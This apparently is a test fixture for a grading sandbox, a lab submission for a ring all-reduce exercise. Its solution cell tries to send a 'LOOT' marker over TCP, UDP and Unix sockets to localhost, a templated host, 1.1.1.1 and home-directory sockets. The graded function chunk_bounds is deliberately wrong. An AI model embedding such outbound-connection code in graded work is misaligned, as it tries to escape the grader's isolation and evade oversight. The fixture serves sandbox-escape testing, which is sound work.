# /// shardlab-submission
# lab = "03_ring_all_reduce"
# kind = "theft"
# tries = "the answers sent to this machine, to the internet, to Unix and abstract sockets"
# seen_by = "loot"
# state = "graded"
# ///
# %% nbgrader={"grade_id": "chunk_bounds", "solution": true}
import socket
places = [(socket.AF_INET, ("127.0.0.1", int("@PORT@"))), (socket.AF_INET, ("@HOST@", int("@PORT@"))),
          (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_UNIX, "\0@MARK@"),
          (socket.AF_UNIX, "@HOME@/socket")]
for family, address in places:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(1)
            sock.connect(address)
            sock.send(b"LO" b"OT")
            print("LO" "OT: reached", address)
    except OSError:
        pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"LO" b"OT", ("@HOST@", int("@PORT@")))
except OSError:
    pass

def chunk_bounds(length, world_size):
    return [(0, length)] * world_size
